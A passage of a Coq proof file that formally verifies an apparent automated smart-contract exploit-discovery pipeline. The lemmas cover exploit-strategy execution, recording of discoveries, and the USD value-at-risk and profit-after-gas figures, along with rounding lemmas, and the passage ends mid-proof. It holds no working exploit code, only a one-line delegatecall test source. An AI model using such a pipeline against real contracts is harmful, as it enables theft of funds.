  split; [ rewrite Hvalue; reflexivity | ].
  split; [ exact Hliq | exact Herr ].
Defined.

(** ** The figures of the report, and the exact arithmetic *)

Section Report.

Import RevenueNormalizer.
Context {A : JsNum.Arith}.
Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.

(** The reported figures, from the totals of the loop and the gas costs. *)
Lemma execute_report (args : Args) (out : Output) :
  execute priceOracle ethers args = Ok out ->
  exists native,
    calculateGasCosts ethers (arg_gasUsed args) (arg_gasPrice args) native = Ok (gasCosts out)
    /\ totalValueUSD out
       = JsNum.Number_toFixed 2 (Profit.unroundedTotalUSD priceOracle ethers args)
    /\ netProfitUSD out
       = JsNum.Number_toFixed 2
           (Profit.unroundedNetProfitUSD priceOracle ethers args (gasCosts out))
    /\ isProfitable out
       = JsNum.gt (Profit.unroundedNetProfitUSD priceOracle ethers args (gasCosts out))
                  (JsNum.lit 0).
Proof.
  unfold execute, normalize. intros H.
  destruct (0 <? arg_chainId args)%Z; [ | discriminate H ].
  destruct (PriceOracleService.getNativeTokenPrice priceOracle (arg_chainId args)
              (arg_blockNumber args)) as [native | ]; cbn [bind] in H; [ | discriminate H ].
  destruct (calculateGasCosts ethers (arg_gasUsed args) (arg_gasPrice args) native)
    as [gas | ] eqn:Hgas; cbn [bind] in H; [ | discriminate H ].
  injection H as <-. exists native. cbn [gasCosts totalValueUSD netProfitUSD isProfitable].
  split; [ exact Hgas | ]. repeat split; reflexivity.
Qed.

End Report.

Section ExactCents.

Import RevenueNormalizer.

Lemma cents_zero : Profit.cents 0.
Proof. exists 0%Z. reflexivity. Qed.

Lemma cents_red (x : Q) : Profit.cents x -> Profit.cents (Qred x).
Proof. intros [k Hk]. exists k. rewrite Qred_correct. exact Hk. Qed.

Lemma cents_plus (x y : Q) : Profit.cents x -> Profit.cents y -> Profit.cents (x + y).
Proof.
  intros [k Hk] [j Hj]. exists (k + j)%Z. rewrite Hk, Hj.
  unfold Qeq, Qplus. simpl. lia.
Qed.

Lemma cents_minus (x y : Q) : Profit.cents x -> Profit.cents y -> Profit.cents (x - y).
Proof.
  intros [k Hk] [j Hj]. exists (k - j)%Z. rewrite Hk, Hj.
  unfold Qeq, Qminus, Qplus, Qopp. simpl. lia.
Qed.

(** Rounding a whole number leaves it as it is. *)
Lemma roundHalfAway_whole (q : Q) (k : Z) :
  (q == inject_Z k)%Q -> JsNum.roundHalfAway q = k.
Proof.
  intros Hq. unfold JsNum.roundHalfAway.
  assert (Hfloor : forall z : Z, Qfloor (inject_Z z + (1 # 2)) = z).
  { intros z. unfold Qfloor, Qplus, inject_Z. simpl.
    replace (z * 2 + 1)%Z with (1 + z * 2)%Z by lia.
    rewrite Z.div_add by lia. reflexivity. }
  destruct (Qle_bool 0 q).
  - rewrite Hq. apply Hfloor.
  - rewrite Hq.
    assert (He : (- inject_Z k + (1 # 2) == inject_Z (- k) + (1 # 2))%Q)
      by (unfold Qeq, Qplus, Qopp, inject_Z; simpl; lia).
    rewrite He, Hfloor. lia.
Qed.

(** [toFixed(2)] yields a whole number of cents, and leaves one as it is. *)
Lemma toFixed_2_cents (x : Q) : Profit.cents (JsNum.toFixed 2 x).
Proof. eexists. unfold JsNum.toFixed. reflexivity. Qed.

Lemma toFixed_2_of_cents (x : Q) : Profit.cents x -> (JsNum.toFixed 2 x == x)%Q.
Proof.
  intros [k Hk]. unfold JsNum.toFixed.
  change (Z.to_pos (10 ^ Z.of_nat 2)) with 100%positive.
  change (inject_Z (10 ^ Z.of_nat 2)) with (inject_Z 100).
  rewrite (roundHalfAway_whole _ k); [ symmetry; exact Hk | ].
  rewrite Hk. unfold Qeq, Qmult, inject_Z. simpl. lia.
Qed.

Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.

(** In exact arithmetic the running total is a whole number of cents, as
    every value added to it was rounded to cents. *)
Lemma total_cents (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) (acc : Totals) :
  Profit.cents (sumUSD acc) ->
  Profit.cents
    (sumUSD (fold_left (@processToken JsNum.Exact priceOracle ethers chainId blockNumber)
               tokens acc)).
Proof.
  revert acc. induction tokens as [ | token tokens IH ]; intros acc Hacc; simpl.
  - exact Hacc.
  - apply IH. unfold processToken.
    destruct (@normalizeToken JsNum.Exact priceOracle ethers token chainId blockNumber)
      as [n | message] eqn:E; cbn [sumUSD]; [ | exact Hacc ].
    apply normalizeToken_ok in E. destruct E as (_ & _ & _ & amountDecimal & priceData & _ & ->).
    apply cents_red, cents_plus; [ exact Hacc | ].
    apply cents_red, toFixed_2_cents.
Qed.

Lemma gas_cents (gasUsed : option Q) (gasPrice : option string) (native : Q) (gas : GasCosts) :
  @calculateGasCosts JsNum.Exact ethers gasUsed gasPrice native = Ok gas ->
  Profit.cents (costUSD gas).
Proof.
  unfold calculateGasCosts. intros H.
  destruct gasUsed as [used | ], gasPrice as [price | ];
    try (injection H as <-; apply cents_zero).
  destruct (negb (JsNum.truthy used) || negb (truthyText (Some price))
            || negb (JsNum.truthy native));
    [ injection H as <-; apply cents_zero | ].
  destruct (parseUnits ethers price 9); cbn [bind] in H; [ | discriminate H ].
  destruct (BigInt used); cbn [bind] in H; [ | discriminate H ].
  injection H as <-. exact (cents_red _ (toFixed_2_cents _)).
Qed.

(** In exact arithmetic the net profit before rounding is a whole number
    of cents, so the rounding for the report leaves it as it is. *)
Lemma exact_report (args : Args) (out : Output) :
  @execute JsNum.Exact priceOracle ethers args = Ok out ->
  (totalValueUSD out == @Profit.unroundedTotalUSD JsNum.Exact priceOracle ethers args)%Q
  /\ (netProfitUSD out
      == @Profit.unroundedNetProfitUSD JsNum.Exact priceOracle ethers args (gasCosts out))%Q
  /\ (@Profit.unroundedNetProfitUSD JsNum.Exact priceOracle ethers args (gasCosts out)
      == @Profit.unroundedTotalUSD JsNum.Exact priceOracle ethers args
         - costUSD (gasCosts out))%Q.
Proof.
  intros H. apply execute_report in H. destruct H as (native & Hgas & -> & -> & _).
  assert (Ht : Profit.cents (@Profit.unroundedTotalUSD JsNum.Exact priceOracle ethers args)).
  { unfold Profit.unroundedTotalUSD, processTokens. apply total_cents. apply cents_zero. }
  assert (Hc : Profit.cents (costUSD (gasCosts out))) by (eapply gas_cents; exact Hgas).
  assert (Hnet : (@Profit.unroundedNetProfitUSD JsNum.Exact priceOracle ethers args (gasCosts out)
                  == @Profit.unroundedTotalUSD JsNum.Exact priceOracle ethers args
                     - costUSD (gasCosts out))%Q).
  { unfold Profit.unroundedNetProfitUSD, JsNum.sub. apply Qred_correct. }
  split; [ | split; [ | exact Hnet ] ].
  - unfold JsNum.Number_toFixed. cbn [JsNum.rnd JsNum.Exact].
    rewrite Qred_correct. apply toFixed_2_of_cents. exact Ht.
  - unfold JsNum.Number_toFixed. cbn [JsNum.rnd JsNum.Exact].
    rewrite Qred_correct. apply toFixed_2_of_cents.
    destruct (cents_minus _ _ Ht Hc) as [k Hk]. exists k. rewrite Hnet. exact Hk.
Qed.

End ExactCents.

(** ** The record of a discovery (C1) *)

Section Discovery.

Context {A : JsNum.Arith}.

(** The [success] of an ExecutionResult is a boolean on every path. *)
Lemma success_is_boolean (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
  (strategy : Strategy) (contractAddress : string) (chainId : Z) (blockNumber : option string) :
  exists b : bool,
    get "success"
      (ConcreteExecution.executeExploitStrategy Number_toString h strategy contractAddress
         chainId blockNumber) = JBool b.
Proof.
  unfold ConcreteExecution.executeExploitStrategy, ForgeService.testExploit.
  destruct (negb (ConcreteExecution.forgeAvailable h)).
  - eexists. reflexivity.
  - destruct (ConcreteExecution.forgeRun h); eexists; reflexivity.
Qed.

(** The three returns of [execute]. *)
Lemma execute_shape (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
  (args : ConcreteExecution.Args) (exploitResult : ConcreteExecution.Output) :
  ConcreteExecution.execute Number_toString h args = Ok exploitResult ->
  exploitResult = ConcreteExecution.NoVulnerabilities
  \/ (exists vulnerabilities, exploitResult = ConcreteExecution.NoStrategies vulnerabilities)
  \/ (exists bestStrategy vulnerabilities allStrategies,
         exploitResult
         = ConcreteExecution.Executed bestStrategy
             (ConcreteExecution.executeExploitStrategy Number_toString h bestStrategy
                (ConcreteExecution.contractAddress args) (ConcreteExecution.chainId args)
                (ConcreteExecution.blockNumber args))
             vulnerabilities allStrategies).
Proof.
  unfold ConcreteExecution.execute, ConcreteExecution.parseArgs. intros H.
  destruct (ConcreteExecution.validAddress (ConcreteExecution.contractAddress args)
            && (0 <? ConcreteExecution.chainId args)%Z); cbn [bind] in H; [ | discriminate H ].
  destruct (ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args))
    as [ | v vs ].
  - injection H as <-. left. reflexivity.
  - destruct (ConcreteExecution.exploitStrategiesOf (v :: vs)) as [ | first rest ];
      injection H as <-.
    + right. left. eexists. reflexivity.
    + right. right. eexists. eexists. eexists. reflexivity.
Qed.

(** The orchestrator sees an exploit exactly when the execution succeeded. *)
Lemma exploitFound_iff_succeeded (Number_toString : Q -> string)
  (h : ConcreteExecution.Harness) (args : ConcreteExecution.Args)
  (exploitResult : ConcreteExecution.Output) :
  ConcreteExecution.execute Number_toString h args = Ok exploitResult ->
  truthyValue (ConcreteExecution.exploitFound exploitResult) = true
  <-> Session.executionSucceeded exploitResult.
Proof.
  intros H. apply execute_shape in H. unfold Session.executionSucceeded.
  destruct H as [-> | [[vs ->] | (best & vs & ss & ->)]].
  - split; [ discriminate | intros (? & ? & ? & ? & Heq & _); discriminate Heq ].
  - split; [ discriminate | intros (? & ? & ? & ? & Heq & _); discriminate Heq ].
  - cbn [ConcreteExecution.exploitFound].
    destruct (success_is_boolean Number_toString h best (ConcreteExecution.contractAddress args)
                (ConcreteExecution.chainId args) (ConcreteExecution.blockNumber args))
      as [b Hb].
    split.
    + intros Ht. rewrite Hb in Ht. cbn in Ht. subst b.
      eexists. eexists. eexists. eexists. split; [ reflexivity | exact Hb ].
    + intros (best' & er & vs' & ss' & Heq & Hs). injection Heq as <- <- <- <-.
      rewrite Hs. reflexivity.
Qed.

Lemma statusOf_update (sessionId status : string) (st : McpServer.Storage) :
  McpServer.statusOf sessionId (McpServer.written sessionId status st) = Some status.
Proof.
  unfold McpServer.statusOf, McpServer.written. cbn [McpServer.sessionStatus find fst].
  rewrite String.eqb_refl. reflexivity.
Qed.

(** The pipeline leaves the statuses alone. *)
Lemma pipeline_status (world : McpServer.World) (sessionId : string)
  (config : McpServer.Config) (st analysed : McpServer.Storage) :
  McpServer.executeAnalysisPipeline world sessionId config st = Ok analysed ->
  McpServer.sessionStatus analysed = McpServer.sessionStatus st.
Proof.
  unfold McpServer.executeAnalysisPipeline. intros H.
  destruct (McpServer.executionStage world config) as [exploitResult | ]; cbn [bind] in H;
    [ | discriminate H ].
  destruct (truthyValue (ConcreteExecution.exploitFound exploitResult));
    [ | injection H as <-; reflexivity ].
  destruct (McpServer.revenueStage world config exploitResult); cbn [bind] in H;
    [ | discriminate H ].
  unfold McpServer.createExploitDiscovery in H.
  destruct (McpServer.databaseAccepts world _); [ | discriminate H ].
  injection H as <-. reflexivity.
Qed.

(** The storage after the [catch]: the status failed is written, or
    nothing is. *)
Lemma failAnalysis_storage (world : McpServer.World) (sessionId message : string)
  (st : McpServer.Storage) :
  snd (McpServer.failAnalysis world sessionId message st)
  = if McpServer.statusAccepts world sessionId "failed"
    then McpServer.written sessionId "failed" st else st.
Proof.
  unfold McpServer.failAnalysis, McpServer.updateMcpSession.
  destruct (McpServer.statusAccepts world sessionId "failed"); reflexivity.
Qed.

(** The storage that an analysis leaves behind, by what the database
    takes and what the pipeline does. *)
Lemma startAnalysis_storage (world : McpServer.World) (sessionId : string)
  (config : McpServer.Config) (st : McpServer.Storage) :
  let failed st0 :=
    if McpServer.statusAccepts world sessionId "failed"
    then McpServer.written sessionId "failed" st0 else st0 in
  McpServer.startAnalysis world sessionId config st
  = if McpServer.statusAccepts world sessionId "running"
    then match McpServer.executeAnalysisPipeline world sessionId config
                 (McpServer.written sessionId "running" st) with
         | Ok analysed =>
             if McpServer.statusAccepts world sessionId "completed"
             then McpServer.written sessionId "completed" analysed
             else failed analysed
         | Throw _ => failed (McpServer.written sessionId "running" st)
         end
    else failed st.
Proof.
  cbv zeta. unfold McpServer.startAnalysis, McpServer.analysis.
  unfold McpServer.updateMcpSession at 1.
  destruct (McpServer.statusAccepts world sessionId "running");
    [ | apply failAnalysis_storage ].
  destruct (McpServer.executeAnalysisPipeline world sessionId config
              (McpServer.written sessionId "running" st)) as [analysed | message];
    [ | apply failAnalysis_storage ].
  unfold McpServer.updateMcpSession at 1.
  destruct (McpServer.statusAccepts world sessionId "completed");
    [ reflexivity | apply failAnalysis_storage ].
Qed.

(** A session that was not complete, or whose status running the
    database took, is complete after the analysis only when the pipeline
    returned and the database took the status completed. *)
Lemma startAnalysis_completed (world : McpServer.World) (sessionId : string)
  (config : McpServer.Config) (st : McpServer.Storage) :
  McpServer.statusOf sessionId st <> Some "completed"
  \/ McpServer.statusAccepts world sessionId "running" = true ->
  McpServer.statusOf sessionId (McpServer.startAnalysis world sessionId config st)
  = Some "completed" ->
  exists analysed,
    McpServer.executeAnalysisPipeline world sessionId config
      (McpServer.written sessionId "running" st) = Ok analysed
    /\ McpServer.exploitDiscoveries (McpServer.startAnalysis world sessionId config st)
       = McpServer.exploitDiscoveries analysed.
Proof.
  intros Hfresh. rewrite startAnalysis_storage. cbv zeta.
  destruct (McpServer.statusAccepts world sessionId "running") eqn:Hrunning.
  - destruct (McpServer.executeAnalysisPipeline world sessionId config
                (McpServer.written sessionId "running" st)) as [analysed | message] eqn:Hp.
    + destruct (McpServer.statusAccepts world sessionId "completed").
      * intros _. exists analysed. split; reflexivity.
      * destruct (McpServer.statusAccepts world sessionId "failed"); intros H.
        -- rewrite statusOf_update in H. discriminate H.
        -- apply pipeline_status in Hp. unfold McpServer.statusOf in H. rewrite Hp in H.
           change (McpServer.statusOf sessionId (McpServer.written sessionId "running" st)
                   = Some "completed") in H.
           rewrite statusOf_update in H. discriminate H.
    + destruct (McpServer.statusAccepts world sessionId "failed"); intros H;
        rewrite statusOf_update in H; discriminate H.
  - destruct (McpServer.statusAccepts world sessionId "failed"); intros H.
    + rewrite statusOf_update in H. discriminate H.
    + destruct Hfresh as [Hfresh | Hfresh]; [ contradiction | discriminate Hfresh ].
Qed.

End Discovery.

(** C1: for every analysis session that completes -- a session that was
    not complete before, or whose status running the database took, and
    that is complete after [startAnalysis] -- in any arithmetic and
    whatever the tools, the harness, the oracle and the database do, the
    execution tool returned a result, and a discovery was recorded if and
    only if that result holds an ExecutionResult with [success == true]:
    when it does, exactly one record is added, carrying the session, the
    contract, the selected strategy and the normalised total value; when
    it does not -- in particular on the two early returns without
    vulnerabilities or without strategies -- the discoveries are left as
    they were. *)
Theorem C1_discovery_iff_execution_succeeded :
  forall (A : JsNum.Arith) (world : McpServer.World) (sessionId : string)
         (config : McpServer.Config) (st : McpServer.Storage),
    let st' := McpServer.startAnalysis world sessionId config st in
    McpServer.statusOf sessionId st <> Some "completed"
    \/ McpServer.statusAccepts world sessionId "running" = true ->
    McpServer.statusOf sessionId st' = Some "completed" ->
    exists exploitResult,
      McpServer.executionStage world config = Ok exploitResult
      /\ (Session.executionSucceeded exploitResult ->
          exists revenue,
            McpServer.revenueStage world config exploitResult = Ok revenue
            /\ McpServer.exploitDiscoveries st'
               = (McpServer.exploitDiscoveries st
                  ++ [ {| McpServer.d_sessionId := sessionId;
                          McpServer.d_contractAddress := McpServer.contractAddress config;
                          McpServer.d_chainId := McpServer.chainId config;
                          McpServer.d_exploitType :=
                            option_map type (ConcreteExecution.selected exploitResult);
                          McpServer.d_severity :=
                            option_map severity (ConcreteExecution.selected exploitResult);
                          McpServer.d_confidence :=
                            option_map confidence (ConcreteExecution.selected exploitResult);
                          McpServer.d_valueAtRisk := RevenueNormalizer.totalValueUSD revenue;
                          McpServer.d_proofOfConcept :=
                            option_map proofOfConcept (ConcreteExecution.selected exploitResult);
                          McpServer.d_description :=
                            option_map description (ConcreteExecution.selected exploitResult);
                          McpServer.d_validated := true |} ])%list)
      /\ (~ Session.executionSucceeded exploitResult ->
          McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st)
      /\ (exploitResult = ConcreteExecution.NoVulnerabilities
          \/ (exists vulnerabilities,
                 exploitResult = ConcreteExecution.NoStrategies vulnerabilities) ->
          McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st).
Proof.
  intros A world sessionId config st st' Hfresh Hcompleted. subst st'.
  destruct (startAnalysis_completed world sessionId config st Hfresh Hcompleted)
    as (analysed & Hp & Hrecorded).
  rewrite Hrecorded. clear Hcompleted Hrecorded.
  unfold McpServer.executeAnalysisPipeline in Hp.
  destruct (McpServer.executionStage world config) as [exploitResult | ] eqn:Hstage;
    cbn [bind] in Hp; [ | discriminate Hp ].
  exists exploitResult. split; [ reflexivity | ].
  assert (Hiff : truthyValue (ConcreteExecution.exploitFound exploitResult) = true
                 <-> Session.executionSucceeded exploitResult).
  { unfold McpServer.executionStage in Hstage.
    destruct (McpServer.source_code_fetcher world config); cbn [bind] in Hstage;
      [ | discriminate Hstage ].
    destruct (McpServer.constructor_parameters world config); cbn [bind] in Hstage;
      [ | discriminate Hstage ].
    destruct (McpServer.state_reader world config); cbn [bind] in Hstage;
      [ | discriminate Hstage ].
    destruct (McpServer.code_sanitizer world _); cbn [bind] in Hstage;
      [ | discriminate Hstage ].
    eapply exploitFound_iff_succeeded. exact Hstage. }
  destruct (truthyValue (ConcreteExecution.exploitFound exploitResult)) eqn:Hfound.
  - destruct (McpServer.revenueStage world config exploitResult) as [revenue | ] eqn:Hrev;
      cbn [bind] in Hp; [ | discriminate Hp ].
    unfold McpServer.createExploitDiscovery in Hp.
    destruct (McpServer.databaseAccepts world _); [ | discriminate Hp ].
    injection Hp as <-.
    split; [ intros _; exists revenue; split; reflexivity | ].
    split; [ intros Hnot; exfalso; apply Hnot, Hiff; reflexivity | ].
    intros [-> | [vs ->]]; discriminate Hfound.
  - injection Hp as <-.
    split; [ intros Hs; apply Hiff in Hs; discriminate Hs | ].
    split; intros _; reflexivity.
Qed.

(** C1 applies: the source holds one delegatecall, forge is absent, the
    simulator draws 0.1 and so lets the strategy of confidence 64 succeed;
    the session completes and one discovery, of the kind delegatecall, is
    recorded. *)
Lemma C1_discovery_witness :
  let st' := @McpServer.startAnalysis JsNum.Binary64
               (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10))
               "session-1" Session.config Session.empty in
  McpServer.statusOf "session-1" st' = Some "completed"
  /\ map McpServer.d_exploitType (McpServer.exploitDiscoveries st') = [Some delegateCall]
  /\ exists exploitResult,
       @McpServer.executionStage JsNum.Binary64
         (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10)) Session.config
       = Ok exploitResult.
Proof.
  cbv zeta.
  assert (H : McpServer.statusOf "session-1"
                (@McpServer.startAnalysis JsNum.Binary64
                   (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10))
                   "session-1" Session.config Session.empty) = Some "completed")
    by (vm_compute; reflexivity).
  split; [ exact H | ]. split; [ vm_compute; reflexivity | ].
  destruct (C1_discovery_iff_execution_succeeded JsNum.Binary64
              (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10))
              "session-1" Session.config Session.empty (or_intror eq_refl) H)
    as (exploitResult & Hstage & _).
  exists exploitResult. exact Hstage.
Defined.

(* ================================================================== *)
(** * Further properties of the components *)
(* ================================================================== *)

(** ** The order of the doubles *)

Section RoundingOrder.

Import JsNum.
Import Rounding.
Local Open Scope Q_scope.

Lemma inject_two_power_pos (n : Z) : (0 <= n)%Z -> 0 < inject_Z (2 ^ n).
Proof.
  intros Hn. change 0 with (inject_Z 0). rewrite <- Zlt_Qlt. apply Z.pow_pos_nonneg; lia.
Qed.

(** [pow2] of a difference of naturals, as a quotient of powers. *)
Lemma pow2_quotient (p n : Z) :
  (0 <= p)%Z -> (0 <= n)%Z -> pow2 (p - n) * inject_Z (2 ^ n) == inject_Z (2 ^ p).
Proof.
  intros Hp Hn. unfold pow2.
  destruct (0 <=? p - n)%Z eqn:E.
  - apply Z.leb_le in E. rewrite <- inject_Z_mult, <- Z.pow_add_r by lia.
    replace (p - n + n)%Z with p by lia. reflexivity.
  - apply Z.leb_gt in E.
    assert (Hpos : (0 < 2 ^ (- (p - n)))%Z) by (apply Z.pow_pos_nonneg; lia).
    unfold Qeq, Qmult, inject_Z. cbn [Qnum Qden].
    rewrite Pos.mul_1_r, Z2Pos.id by exact Hpos.
    rewrite !Z.mul_1_l, Z.mul_1_r.
    replace n with (- (p - n) + p)%Z at 1 by lia.
    rewrite Z.pow_add_r by lia. ring.
Qed.

Lemma pow2_pos (e : Z) : 0 < pow2 e.
Proof.
  unfold pow2. destruct (0 <=? e)%Z eqn:E.
  - apply Z.leb_le in E. apply inject_two_power_pos. exact E.
  - reflexivity.
Qed.

Lemma pow2_add (a b : Z) : pow2 (a + b) == pow2 a * pow2 b.
Proof.
  set (pa := Z.max 0 a). set (na := Z.max 0 (- a)).
  set (pb := Z.max 0 b). set (nb := Z.max 0 (- b)).
  assert (Ha : a = (pa - na)%Z) by lia. assert (Hb : b = (pb - nb)%Z) by lia.
  assert (Hab : (a + b = (pa + pb) - (na + nb))%Z) by lia.
  pose proof (pow2_quotient pa na ltac:(lia) ltac:(lia)) as Qa. rewrite <- Ha in Qa.
  pose proof (pow2_quotient pb nb ltac:(lia) ltac:(lia)) as Qb. rewrite <- Hb in Qb.
  pose proof (pow2_quotient (pa + pb) (na + nb) ltac:(lia) ltac:(lia)) as Qab.
  rewrite <- Hab in Qab.
  rewrite !Z.pow_add_r, !inject_Z_mult in Qab by lia.
  rewrite <- Qa, <- Qb in Qab.
  assert (Hna : ~ inject_Z (2 ^ na) == 0)
    by (intros H; pose proof (inject_two_power_pos na ltac:(lia)) as P; rewrite H in P;
        exact (Qlt_irrefl _ P)).
  assert (Hnb : ~ inject_Z (2 ^ nb) == 0)
    by (intros H; pose proof (inject_two_power_pos nb ltac:(lia)) as P; rewrite H in P;
        exact (Qlt_irrefl _ P)).
  apply (Qmult_inj_r _ _ (inject_Z (2 ^ na) * inject_Z (2 ^ nb))).
  - intros H. apply Qmult_integral in H. tauto.
  - rewrite Qab. ring.
Qed.

Lemma pow2_mono (a b : Z) : (a <= b)%Z -> pow2 a <= pow2 b.
Proof.
  intros Hab. replace b with (a + (b - a))%Z by lia. rewrite pow2_add.
  rewrite <- (Qmult_1_r (pow2 a)) at 1.
  apply Qmult_le_l; [ apply pow2_pos | ].
  unfold pow2. assert (E : (0 <=? b - a)%Z = true) by (apply Z.leb_le; lia). rewrite E.
  change 1 with (inject_Z 1). rewrite <- Zle_Qle.
  assert (0 < 2 ^ (b - a))%Z by (apply Z.pow_pos_nonneg; lia). lia.
Qed.

Lemma pow2_nonneg_exp (e : Z) : (0 <= e)%Z -> pow2 e = inject_Z (2 ^ e).
Proof. intros H. unfold pow2. apply Z.leb_le in H. rewrite H. reflexivity. Qed.

Lemma Qmake_num (q : Q) : q * inject_Z (Zpos (Qden q)) == inject_Z (Qnum q).
Proof. destruct q as [n d]. unfold Qeq, Qmult, inject_Z. cbn [Qnum Qden]. lia. Qed.

Lemma Qnum_pos (q : Q) : 0 < q -> (0 < Qnum q)%Z.
Proof. destruct q as [n d]. unfold Qlt. cbn [Qnum Qden]. lia. Qed.

(** [ilog2] is the exponent of the binade of a positive rational. *)
Lemma ilog2_spec (q : Q) : 0 < q -> pow2 (ilog2 q) <= q /\ q < pow2 (ilog2 q + 1).
Proof.
  intros Hq. pose proof (Qnum_pos q Hq) as Hn.
  set (n := Qnum q) in *. set (d := Zpos (Qden q)).
  assert (Hd : (0 < d)%Z) by reflexivity.
  destruct (Z.log2_spec n Hn) as [Hn1 Hn2]. destruct (Z.log2_spec d Hd) as [Hd1 Hd2].
  pose proof (Z.log2_nonneg n) as Hln. pose proof (Z.log2_nonneg d) as Hld.
  pose proof (Qmake_num q) as Hnum. fold n d in Hnum.
  assert (Hup : q < pow2 (Z.log2 n - Z.log2 d + 1)).
  { apply Qnot_le_lt. intros Hle.
    pose proof (pow2_quotient (Z.log2 n + 1) (Z.log2 d) ltac:(lia) ltac:(lia)) as Hx.
    replace (Z.log2 n + 1 - Z.log2 d)%Z with (Z.log2 n - Z.log2 d + 1)%Z in Hx by lia.
    assert (H1 : inject_Z (2 ^ Z.log2 d) <= inject_Z d) by (rewrite <- Zle_Qle; exact Hd1).
    assert (H2 : inject_Z n < inject_Z (2 ^ (Z.log2 n + 1)))
      by (rewrite <- Zlt_Qlt; replace (Z.log2 n + 1)%Z with (Z.succ (Z.log2 n)) by lia;
          exact Hn2).
    pose proof (inject_two_power_pos (Z.log2 d) Hld) as H3.
    nra. }
  assert (Hlow : pow2 (Z.log2 n - Z.log2 d - 1) <= q).
  { apply Qnot_lt_le. intros Hlt.
    pose proof (pow2_quotient (Z.log2 n) (Z.log2 d + 1) ltac:(lia) ltac:(lia)) as Hx.
    replace (Z.log2 n - (Z.log2 d + 1))%Z with (Z.log2 n - Z.log2 d - 1)%Z in Hx by lia.
    assert (H1 : inject_Z d < inject_Z (2 ^ (Z.log2 d + 1)))
      by (rewrite <- Zlt_Qlt; replace (Z.log2 d + 1)%Z with (Z.succ (Z.log2 d)) by lia;
          exact Hd2).
    assert (H2 : inject_Z (2 ^ Z.log2 n) <= inject_Z n) by (rewrite <- Zle_Qle; exact Hn1).
    pose proof (inject_two_power_pos (Z.log2 d + 1) ltac:(lia)) as H3.
    nra. }
  unfold ilog2. fold n d.
  destruct (Qle_bool (pow2 (Z.log2 n - Z.log2 d)) q) eqn:E.
  - apply Qle_bool_iff in E. split; [ exact E | exact Hup ].
  - split; [ exact Hlow | ].
    replace (Z.log2 n - Z.log2 d - 1 + 1)%Z with (Z.log2 n - Z.log2 d)%Z by lia.
    apply Qnot_le_lt. intros Hle. apply Qle_bool_iff in Hle. congruence.
Qed.

Lemma ilog2_mono (x y : Q) : 0 < x -> x <= y -> (ilog2 x <= ilog2 y)%Z.
Proof.
  intros Hx Hxy. assert (Hy : 0 < y) by (eapply Qlt_le_trans; eauto).
  destruct (ilog2_spec x Hx) as [Hx1 _]. destruct (ilog2_spec y Hy) as [_ Hy2].
  destruct (Z.le_gt_cases (ilog2 x) (ilog2 y)) as [H | H]; [ exact H | exfalso ].
  pose proof (pow2_mono (ilog2 y + 1) (ilog2 x) ltac:(lia)) as Hm.
  lra.
Qed.

Ltac compared H := first [ apply Qeq_alt in H | apply Qlt_alt in H | apply Qgt_alt in H ].

(** The nearest integer, between the integers around. *)
Lemma roundHalfEven_floor (t : Q) :
  roundHalfEven t = Qfloor t \/ roundHalfEven t = (Qfloor t + 1)%Z.
Proof.
  unfold roundHalfEven.
  destruct (t - inject_Z (Qfloor t) ?= 1 # 2); [ destruct (Z.even (Qfloor t)) | | ]; tauto.
Qed.

Lemma roundHalfEven_ge (t : Q) (n : Z) : inject_Z n <= t -> (n <= roundHalfEven t)%Z.
Proof.
  intros H. apply Qfloor_resp_le in H. rewrite Qfloor_Z in H.
  destruct (roundHalfEven_floor t) as [-> | ->]; lia.
Qed.

Lemma roundHalfEven_le (t : Q) (n : Z) : t <= inject_Z n -> (roundHalfEven t <= n)%Z.
Proof.
  intros H. pose proof (Qfloor_resp_le _ _ H) as Hf. rewrite Qfloor_Z in Hf.
  destruct (Z.eq_dec (Qfloor t) n) as [Heq | Hne].
  - unfold roundHalfEven. pose proof (Qfloor_le t) as Hl. rewrite Heq in *.
    destruct (t - inject_Z n ?= 1 # 2) eqn:E; [ exfalso | lia | exfalso ].
    + apply Qeq_alt in E. lra.
    + apply Qgt_alt in E. lra.
  - destruct (roundHalfEven_floor t) as [-> | ->]; lia.
Qed.

Lemma roundHalfEven_mono (t u : Q) : t <= u -> (roundHalfEven t <= roundHalfEven u)%Z.
Proof.
  intros H. pose proof (Qfloor_resp_le _ _ H) as Hf.
  destruct (Z.eq_dec (Qfloor t) (Qfloor u)) as [Heq | Hne].
  - unfold roundHalfEven. rewrite <- Heq.
    destruct (t - inject_Z (Qfloor t) ?= 1 # 2) eqn:Et;
      destruct (u - inject_Z (Qfloor t) ?= 1 # 2) eqn:Eu;
      try (destruct (Z.even (Qfloor t))); try lia; exfalso;
      compared Et; compared Eu; lra.
  - destruct (roundHalfEven_floor t) as [-> | ->];
      destruct (roundHalfEven_floor u) as [-> | ->]; lia.
Qed.

Lemma scaled_le (x y : Q) (e : Z) : x <= y -> x / pow2 e <= y / pow2 e.
Proof.
  intros H. unfold Qdiv. apply Qmult_le_compat_r; [ exact H | ].
  apply Qlt_le_weak, Qinv_lt_0_compat, pow2_pos.
Qed.

Lemma scaled_pow2 (a e : Z) : pow2 (e + a) / pow2 e == pow2 a.
Proof.
  rewrite pow2_add. field. intros H. pose proof (pow2_pos e) as P. rewrite H in P.
  exact (Qlt_irrefl _ P).
Qed.

Lemma nearest_mono (x y : Q) : 0 < x -> x <= y -> nearest x <= nearest y.
Proof.
  intros Hx Hxy. assert (Hy : 0 < y) by (eapply Qlt_le_trans; eauto).
  pose proof (ilog2_mono x y Hx Hxy) as Hlog.
  unfold nearest.
  destruct (Z.eq_dec (exponentOf x) (exponentOf y)) as [Heq | Hne].
  - rewrite Heq. apply Qmult_le_compat_r; [ | apply Qlt_le_weak, pow2_pos ].
    rewrite <- Zle_Qle. apply roundHalfEven_mono, scaled_le. exact Hxy.
  - assert (Hlt : (exponentOf x < exponentOf y)%Z) by (unfold exponentOf in *; lia).
    assert (Hey : exponentOf y = (ilog2 y - 52)%Z) by (unfold exponentOf in *; lia).
